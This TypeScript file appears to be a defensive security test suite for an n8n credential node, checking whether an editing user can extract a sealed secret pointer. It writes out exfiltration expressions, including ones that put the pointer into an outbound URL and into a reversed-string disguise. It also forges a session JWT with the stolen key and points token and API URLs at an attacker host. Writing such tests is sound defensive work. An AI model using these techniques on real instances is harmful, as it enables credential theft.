import { EncryptJWT } from 'jose';
import { connectionNode, MANUAL_TRIGGER } from '../../../demo/connection';
import type { SavedCredential } from '../../../demo/harness/n8nRest';
import { Person } from '../../../demo/harness/person';
import { FlowKeys } from '../../../src/authorization/ticket';
import type { Fields } from '../support/database';
import type { Saved, Scene } from '../support/scene';

const HOUR = 3_600_000;
/** n8n evaluates them with the whole credential as `$self`. */
const POINTER = '$self["secretRef"]';
const KEY = `JSON.parse(${POINTER}).key`;
/** In a disguise that nobody can list. */
const DISGUISED = `={{ ${KEY}.split("").reverse().join("") }}`;

const CONTAINS_POINTER: [string, Fields][] = [
	['Label', { label: `={{ ${KEY} }}` }],
	['Scope', { scope: `={{ ${KEY} }}` }],
	['Additional Token Parameters', { tokenParameters: `={{ JSON.stringify({ a: ${POINTER} }) }}` }],
	['API Base URL', { apiBaseUrl: `=http://127.0.0.1:9/{{ encodeURIComponent(${POINTER}) }}` }],
	['Resource', { resource: `=https://api.example.com/{{ ${POINTER}.base64Encode() }}` }],
];

/** Somebody who may edit a credential reads its pointer by an expression: n8n lets them. What it is good for. */
export function pointerStories(scene: () => Scene): void {
	let victim: Saved;
	/** As the form is filled when the credential is opened. */
	let opened: SavedCredential;

	beforeEach(async () => {
		const { database, memberEmail } = scene().instance;
		victim = await scene().connectByPasting();
		opened = await scene().instance.owner.getCredential(victim.id);
		database.moveToProjectOf(victim.id, memberEmail);
		// So that they may use it in workflows of their own, too.
		database.share(victim.id, memberEmail);
		scene().discardLater(victim);
	});

	/** Runs an operation of the companion node in the other user's own workflow. */
	async function run(saved: Saved, operation: string, parameters: Fields = {}) {
		const { member } = scene().instance;
		const node = connectionNode(saved, operation, parameters);
		const id = await member.createWorkflow('Mine', [MANUAL_TRIGGER, node]);
		const { nodes, raw } = await member.runWorkflow(id, MANUAL_TRIGGER.name);
		return { items: nodes[operation]?.items ?? [], raw };
	}

	/** Saves the form as the other user. */
	async function save(changes: Fields) {
		return await scene().submit(opened, changes, scene().instance.member);
	}

	/** The pointer's key, read out of a field that shows up in a workflow's data. */
	async function stolenKey(): Promise<string> {
		expect(await save({ label: DISGUISED })).toMatchObject({ status: 'OK' });
		const { items } = await run(victim, 'getStatus');
		return String(items[0]?.['label']).split('').reverse().join('');
	}

	it('a field that contains it is refused, and sends it nowhere', async () => {
		const { key } = scene().pointer(victim);
		const before = await scene().noticed();
		const requests = scene().accounting.provider.tokenRequests.length;
		for (const [field, changes] of CONTAINS_POINTER) {
			const refused = `Fix the configuration – ${field}: it contains the pointer to the sealed secrets`;
			const { status, message } = await save(changes);
			expect([status, message]).toEqual(['Error', expect.stringContaining(refused)]);
			const { items, raw } = await run(victim, 'getStatus');
			expect(items).toMatchObject([{ state: 'failing' }]);
			expect(raw).toContain('it contains the pointer to the sealed secrets');
			expect(raw.includes(key)).toBe(false);
		}
		expect(await scene().noticed()).toEqual(before);
		expect(scene().accounting.provider.tokenRequests).toHaveLength(requests);
	});

	it('makes no session token and no link', async () => {
		const key = await stolenKey();
		const { secretId, key: own } = scene().pointer(victim);
		expect(key === own).toBe(true);
		const keys = new FlowKeys(key);
		const now = Date.now();
		const sessionToken = await new EncryptJWT({ claims: {} })
			.setProtectedHeader({ alg: 'dir', enc: 'A256GCM', typ: 'JWT' })
			.setIssuer('n8n-nodes-vaulted-oauth2')
			.setAudience(secretId)
			.setSubject('admin')
			.setIssuedAt(now / 1000)
			.setExpirationTime((now + HOUR) / 1000)
			.encrypt(keys.derive('session token'));
		const { items } = await run(victim, 'verify', { resource: 'session', sessionToken });
		expect(items).toEqual([{ valid: false }]);

		const form = scene().accountForm();
		const published = await scene().save(form);
		await scene().connectWorkflow(published, form);
		const flowKeys = new FlowKeys(scene().pointer(published).key);
		const ticket = { id: 'an-id', issuedAt: now, expiresAt: now + HOUR, flow: '' };
		const link = flowKeys.issue({ kind: 'link', ...ticket });
		const address = form.redirectUri.replace(/callback$/, `connect?link=${link}`);
		const page = await new Person().open(address);
		expect(page.url.origin).toBe(scene().instance.n8n.url);
		expect(page.text).toContain('with a link that was made for this connection');
	});

	it('in a credential of one’s own, it opens the connection as it was sealed, and for no other address', async () => {
		const { member } = scene().instance;
		const stored = scene().instance.database.credential(victim.id);
		const copy = await scene().save({ ...stored }, member);
		scene().discardLater(copy);
		// Said in docs/security.md: with the pointer, it can be used as it was sealed.
		expect(copy.test.status).toBe('OK');
		const before = [await scene().noticed(), scene().attacker.requests.length];
		const { attacker } = scene();
		for (const changes of [
			{ issuerUrl: '', tokenUrl: `${attacker.url}/token`, authorizationUrl: `${attacker.url}/a` },
			{ apiBaseUrl: attacker.url },
			{ additionalApiOrigins: attacker.url },
		]) {
			const moved = await scene().save({ ...stored, ...changes }, member);
			scene().discardLater(moved);
			expect(moved.test.message).toMatch(/the stored secret was sealed for another/);
		}
		expect([await scene().noticed(), attacker.requests.length]).toEqual(before);
	});
}
